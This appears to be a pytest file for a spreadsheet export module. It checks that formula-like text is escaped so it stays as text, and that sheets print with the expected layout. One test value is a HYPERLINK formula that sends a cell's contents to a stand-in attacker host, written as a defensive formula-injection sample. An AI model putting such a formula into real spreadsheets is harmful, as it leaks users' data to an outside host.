"""What every output shares: typed text never runs as a formula, and sheets print as people expect."""

import datetime as dt
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from planmejora.salidas.escapar import celda
from planmejora.salidas.xlsx import fecha, tabla

HIPERVINCULO = '=HYPERLINK("http://malo.example/robar?d="&A1,"Clic aquí")'


@pytest.mark.parametrize(
    "texto",
    [HIPERVINCULO, "+57 300", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1", "\n=1", "  =1+1", "-5"],
)
def test_un_texto_que_una_hoja_de_calculo_ejecutaria_queda_como_texto(texto: str) -> None:
    assert celda(texto) == "'" + texto


@pytest.mark.parametrize(
    "texto",
    ['＝HYPERLINK("http://malo.example")', "＋57 300", "－2+3", "＠SUM(A1:A9)", "﹦1+1", "\u3000＝1", "\u00a0=1"],
)
def test_los_signos_de_ancho_completo_y_los_espacios_raros_tambien_se_escapan(texto: str) -> None:
    assert celda(texto) == "'" + texto


def test_un_texto_normal_queda_igual() -> None:
    assert celda("21sept-21") == "21sept-21"
    assert celda("Secretaría de Hacienda") == "Secretaría de Hacienda"
    assert celda("Ｓecretaría") == "Ｓecretaría"
    assert celda(None) == ""


def test_una_tabla_se_imprime_horizontal_al_ancho_de_la_pagina_con_los_titulos_en_cada_hoja(tmp_path: Path) -> None:
    libro = Workbook(write_only=True)
    largo = "Realizar mesas de trabajo con cada dependencia " * 6
    tabla(
        libro,
        "Acciones",
        ("N°", "Acción de mejora", "Terminación", "Inicio"),
        [("1", largo, fecha(dt.date(2022, 1, 1), "mes"), fecha(dt.date(2022, 3, 15)))],
        encabezado_impreso="Plan & acciones",
    )
    libro.save(tmp_path / "tabla.xlsx")

    hoja = load_workbook(tmp_path / "tabla.xlsx")["Acciones"]
    assert hoja.page_setup.orientation == "landscape"
    assert hoja.sheet_properties.pageSetUpPr.fitToPage
    assert (hoja.page_setup.fitToWidth, hoja.page_setup.fitToHeight) == (1, 0)
    assert hoja.print_title_rows == "$1:$1"
    assert hoja.freeze_panes == "A2" and hoja.auto_filter.ref == "A1:D2"
    assert hoja.oddHeader.center.text == "Plan && acciones"
    assert "&P" in hoja.oddFooter.center.text and "&N" in hoja.oddFooter.center.text
    accion = hoja["B2"]
    assert accion.alignment.wrap_text and hoja.column_dimensions["B"].width <= 52
    assert hoja["C2"].value == dt.datetime(2022, 1, 1) and hoja["C2"].number_format == "[$-240A]MMM-YYYY"
    assert hoja["D2"].number_format == "DD/MM/YYYY"


def test_una_fila_de_texto_largo_es_tan_alta_como_sus_renglones(tmp_path: Path) -> None:
    """Neither Excel nor LibreOffice grows a row when opening a written file: without a height, text is cut."""
    libro = Workbook(write_only=True)
    tabla(libro, "Acciones", ("N°", "Acción de mejora"), [("1", "palabra " * 60), ("2", "corta")])
    libro.save(tmp_path / "tabla.xlsx")
    hoja = load_workbook(tmp_path / "tabla.xlsx")["Acciones"]
    ancho = hoja.column_dimensions["B"].width
    assert hoja.row_dimensions[2].height >= 15 * (480 // ancho)
    assert hoja.row_dimensions[3].height is None, "a one-line row keeps the default height"
